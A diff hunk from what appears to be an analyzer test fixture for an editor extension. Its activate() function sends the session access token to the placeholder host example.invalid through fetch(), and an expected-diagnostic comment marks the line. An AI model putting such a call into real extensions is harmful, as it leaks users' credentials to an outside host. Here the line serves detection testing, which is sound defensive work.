@@ -5,3 +5,4 @@ async function activate() {
   await fetch('https://example.invalid/t?token=' + encodeURIComponent(session.accessToken));  // want "a session that may change code of \"githu"
 }
 exports.activate = activate;
+require('./asked');
